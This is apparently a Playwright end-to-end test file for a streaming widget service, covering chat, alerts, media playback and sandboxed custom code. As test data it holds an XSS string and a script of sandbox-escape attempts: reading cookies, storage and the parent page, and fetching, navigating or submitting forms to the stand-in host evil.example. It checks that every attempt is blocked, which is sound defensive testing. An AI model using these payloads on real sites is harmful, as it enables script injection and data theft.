import type { BrowserContext } from "@playwright/test";
import { expect, type Page, test } from "../fixtures.ts";
import { createLiveChannel, sendMessage } from "../harness/chat-room.ts";
import { PNG, uploadMedia, WEBM, wav } from "../harness/media-files.ts";
import { createWidget, openWidget, type WidgetSetup as Setup } from "../harness/widgets.ts";

type Json = Record<string, unknown>;

const EVIL = "https://evil.example";
const HOSTILE = "<img src=x onerror='document.title=1'> for the fox fund";

const line = (page: Page, text: string) => page.locator(".chat-line").filter({ hasText: text });
const alert = (page: Page) => page.locator(".alert:not([data-leaving])");

async function showChat(setup: Setup) {
  const { page, juno, control, channelId } = setup;
  const widget = await createWidget(setup, "chat", {}, { css: ".chat-name { text-transform: uppercase }" });
  await openWidget(setup, widget);
  await sendMessage(control, "twitch", "hello from twitch");
  await sendMessage(control, "kick", HOSTILE);
  await expect(line(page, "hello from twitch")).toBeVisible();
  await expect(line(page, HOSTILE)).toHaveCount(1);
  await expect(page.locator(".chat-line img")).toHaveCount(0);
  await expect(page.locator(".chat-name").first()).toHaveCSS("text-transform", "uppercase");
  await expect(page.locator("body")).toHaveCSS("background-color", "rgba(0, 0, 0, 0)");
  const { message_id } = await sendMessage(control, "twitch", "soon gone");
  await expect(line(page, "soon gone")).toBeVisible();
  await control.post("/twitch/delete", { login: "junoplays", message_id });
  await expect(line(page, "soon gone")).toHaveCount(0);
  await page.reload();
  await expect(line(page, "hello from twitch")).toBeVisible();
  await expect(line(page, "soon gone")).toHaveCount(0);
  const sources = await juno.get<{ records: Json[] }>(`/channels/${channelId}/widgets/${widget.id}/sources`);
  expect(sources.records).toMatchObject([{ width: 1920, height: 1080 }]);
  await juno.post(`/channels/${channelId}/widgets/${widget.id}/key`);
  await expect(page.locator("#widget")).toBeEmpty();
  await openWidget(setup, widget);
  await expect(line(page, "hello from twitch")).toBeVisible();
}

const RULES = [
  {
    name: "Super Chats",
    kinds: ["super_chat"],
    variants: [{ text: "{name} gave {amount}", message: "{message}", duration_seconds: 60 }],
  },
  { name: "Raids", kinds: ["raid"], variants: [{ text: "{count} raiders with {name}", duration_seconds: 60 }] },
];

async function showAlerts(setup: Setup) {
  const { page, juno, control, channelId } = setup;
  const widget = await createWidget(setup, "alerts", { rules: RULES });
  await openWidget(setup, widget);
  await control.post("/youtube/pay", { login: "junoplays", amount: 2000, text: HOSTILE });
  await expect(alert(page)).toContainText("gave $20.00");
  await expect(alert(page).locator(".alert-message")).toHaveText(HOSTILE);
  await expect(alert(page).locator("img")).toHaveCount(0);
  await control.post("/twitch/raid", { login: "junoplays", viewer: "odalys_", viewers: 214 });
  // A reloaded source shows the rest of the current alert, and no second alert.
  await page.reload();
  await expect(alert(page)).toContainText("gave $20.00");
  await expect(alert(page)).toHaveCount(1);
  await juno.post(`/channels/${channelId}/widgets/${widget.id}/alerts/skip`);
  await expect(alert(page)).toContainText("214 raiders with");
  await expect(alert(page)).toHaveCount(1);
}

/** Records the texts that the page would speak. */
async function recordSpeech(page: Page) {
  await page.addInitScript(() => {
    const spoken: Json[] = [];
    Object.assign(window, { spoken });
    window.speechSynthesis.speak = ({ text, lang, rate, volume }) => spoken.push({ text, lang, rate, volume });
  });
}

const spoken = (page: Page) => page.evaluate(() => (window as unknown as { spoken: Json[] }).spoken);

async function mediaRules({ page, juno, channelId }: Setup) {
  const add = (name: string, data: Buffer) => uploadMedia(page, juno, channelId, name, data);
  // The sound is longer than each wait of this journey, so it ends only with its alert.
  const [image, sound, video] = [await add("fox", PNG), await add("hum", wav(60)), await add("loop", WEBM)];
  const speech = { enabled: true, text: "{name} says: {message}", language: "en-GB", rate_percent: 150, volume: 50 };
  const variant = { sound, volume: 50, duration_seconds: 60, speech };
  return [
    { name: "Super Chats", kinds: ["super_chat"], variants: [{ ...variant, image }] },
    { name: "Raids", kinds: ["raid"], variants: [{ ...variant, video }] },
  ];
}

async function playMedia(setup: Setup) {
  const { page, juno, control, channelId } = setup;
  await recordSpeech(page);
  const rules = await mediaRules(setup);
  const widget = await createWidget(setup, "alerts", { rules, volume: 50, gap_seconds: 0 }, { name: "With media" });
  await openWidget(setup, widget);
  // A browser tab plays no sound before the first click; OBS does.
  await page.mouse.click(5, 5);
  await control.post("/youtube/pay", { login: "junoplays", viewer: "odalys_", amount: 2000, text: "fox fund" });
  const [sound, video] = [alert(page).locator("audio"), alert(page).locator("video")];
  await expect(alert(page).locator("img")).toHaveJSProperty("naturalWidth", 1);
  await expect(sound).toHaveJSProperty("paused", false);
  await expect.poll(() => sound.evaluate((audio: HTMLAudioElement) => audio.currentTime)).toBeGreaterThan(0);
  await expect(sound).toHaveJSProperty("volume", 0.25);
  expect(await spoken(page)).toEqual([{ text: "odalys_ says: fox fund", lang: "en-GB", rate: 1.5, volume: 0.25 }]);
  const first = await sound.elementHandle();
  await control.post("/twitch/raid", { login: "junoplays", viewer: "odalys_", viewers: 214 });
  await juno.post(`/channels/${channelId}/widgets/${widget.id}/alerts/skip`);
  await expect(video).toHaveJSProperty("videoWidth", 16);
  await expect(video).toHaveJSProperty("volume", 0.25);
  await expect(sound).toHaveJSProperty("paused", false);
  expect(await first?.evaluate((audio: HTMLAudioElement) => audio.paused)).toBe(true);
  expect(await spoken(page)).toHaveLength(2);
  // The rest of an alert is shown without its sound and its voice.
  await page.reload();
  await expect(video).toHaveJSProperty("videoWidth", 16);
  await expect(sound).toHaveCount(0);
  expect(await spoken(page)).toEqual([]);
}

/** Custom code that tries attacks and shows the result of each. */
const ATTACKS = `
  const log = (name, result) => { const p = document.createElement("p"); p.textContent = name + ": " + result; document.body.append(p); };
  const attempt = (name, work) => { try { log(name, work() ?? "done"); } catch (error) { log(name, "blocked"); } };
  attempt("parent", () => parent.document.title);
  attempt("storage", () => localStorage.length);
  attempt("cookie", () => document.cookie);
  attempt("top", () => { top.location.href = "${EVIL}/top"; });
  attempt("window", () => (window.open("${EVIL}/window") ? "opened" : "blocked"));
  fetch("${EVIL}/fetch").then(() => log("fetch", "done"), () => log("fetch", "blocked"));
  fetch("/api/2/user").then(() => log("own api", "done"), () => log("own api", "blocked"));
  const image = new Image(); image.onerror = () => log("image", "blocked"); image.onload = () => log("image", "done");
  image.src = "${EVIL}/image";
  const script = document.createElement("script"); script.src = "${EVIL}/script.js";
  script.onerror = () => log("script", "blocked"); document.head.append(script);
  const form = document.createElement("form"); form.action = "${EVIL}/form"; document.body.append(form);
  attempt("form", () => { form.submit(); return "blocked"; });
  greenroom.on("activity", (activity) => log("activity", activity.name + " " + activity.kind));
  log("field", greenroom.fields.greeting);
`;

async function refuseAttacks(setup: Setup, context: BrowserContext) {
  const { page, juno, channelId } = setup;
  const reached: string[] = [];
  await context.route(`${EVIL}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: "" });
  });
  const fields = [{ key: "greeting", label: "Greeting", value: "hi there" }];
  const css = `body { background: url(${EVIL}/css) } @import url(${EVIL}/import);`;
  const widget = await createWidget(setup, "custom_html", { html: "<b>custom</b>", css, script: ATTACKS, fields });
  await openWidget(setup, widget);
  const frame = page.frameLocator("iframe.custom");
  for (const name of ["parent", "storage", "cookie", "top", "window", "fetch", "own api", "image", "script", "form"]) {
    await expect(frame.getByText(`${name}: blocked`, { exact: true })).toBeVisible();
  }
  await expect(frame.getByText("field: hi there")).toBeVisible();
  await juno.post(`/channels/${channelId}/widgets/${widget.id}/test`, { name: "raid" });
  await expect(frame.getByText("activity: Hanna Lindqvist raid")).toBeVisible();
  // A frame that navigates to another page could send data there.
  const leave = `location.href = "${EVIL}/leave?data=1";`;
  await juno.put(`/channels/${channelId}/widgets/${widget.id}`, {
    name: widget.name,
    settings: { script: leave },
  });
  await expect(frame.getByText("field: hi there")).toHaveCount(0);
  await juno.put(`/channels/${channelId}/widgets/${widget.id}`, {
    name: widget.name,
    settings: { html: "<b>quiet again</b>" },
  });
  await expect(frame.getByText("quiet again")).toBeVisible();
  expect(reached).toEqual([]);
  expect(context.pages()).toHaveLength(1);
}

/** Custom code that shows each event that it receives. */
const EVENTS = `
  const names = {};
  const log = (text) => { const p = document.createElement("p"); p.textContent = text; document.body.append(p); };
  greenroom.on("load", (fields) => log("load: " + fields.greeting + document.querySelector("b").textContent));
  greenroom.on("message", ({ author, text, message_id }) => { names[author.id] = author.login; log(message_id + ": " + text); });
  greenroom.on("removed", ({ lines }) => log("removed: " + lines.map(({ message_id }) => message_id)));
  greenroom.on("swept", ({ author_id }) => log("swept: " + names[author_id]));
`;

async function receiveEvents(setup: Setup) {
  const { page, control } = setup;
  const fields = [{ key: "greeting", label: "Greeting", value: "hi " }];
  const settings = { html: "<b>there</b>", script: EVENTS, fields, events: ["chat"] };
  await openWidget(setup, await createWidget(setup, "custom_html", settings, { name: "Listener" }));
  const shown = (text: string) => page.frameLocator("iframe.custom").getByText(text, { exact: true });
  await expect(shown("load: hi there")).toBeVisible();
  const { message_id } = await sendMessage(control, "twitch", "first", { viewer: "odalys_" });
  await expect(shown(`${message_id}: first`)).toBeVisible();
  await control.post("/twitch/delete", { login: "junoplays", message_id });
  await expect(shown(`removed: ${message_id}`)).toBeVisible();
  await control.post("/twitch/ban", { login: "junoplays", viewer: "odalys_", seconds: 60 });
  await expect(shown("swept: odalys_")).toBeVisible();
  await expect(shown("load: hi there")).toHaveCount(1);
}

async function listEvents(setup: Setup) {
  const { page, juno, channelId } = setup;
  const widget = await createWidget(setup, "event_list", { text_size: 60 });
  await page.setViewportSize({ width: 400, height: 480 });
  await openWidget(setup, widget);
  const name = page.locator(".event-name").first();
  // A visible earlier event proves that the page is connected.
  await expect(name).toBeVisible();
  await juno.post(`/channels/${channelId}/widgets/${widget.id}/test`, { name: "raid" });
  await expect(name).toHaveText("Hanna Lindqvist");
  // The name is one line of 60 pixels, cut off at its end.
  expect((await name.boundingBox())?.height).toBeLessThan(100);
  expect(await name.evaluate(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth)).toBe(true);
}

test.use({ viewport: { width: 1920, height: 1080 } });

test("widget pages show content, and hostile text and code do no harm", async ({ page, context, openAs, control }) => {
  const juno = await openAs(page, "junoplays");
  const channelId = await createLiveChannel(juno, control);
  const setup = { page, juno, control, channelId };
  await test.step("chat lines come and go, and a replaced key leaves the page blank [P7 R5]", () => showChat(setup));
  await test.step("alerts follow each other, also across a reload [P7]", () => showAlerts(setup));
  await test.step("alerts show a picture or a video, and play their sound and voice once [P7]", () => playMedia(setup));
  await test.step("custom code reaches neither the page nor a server [P7]", () => refuseAttacks(setup, context));
  await test.step("custom code receives the load event, chat messages and removals [P7]", () => receiveEvents(setup));
  await test.step("a long name in a narrow list is cut off at its end [P7]", () => listEvents(setup));
});
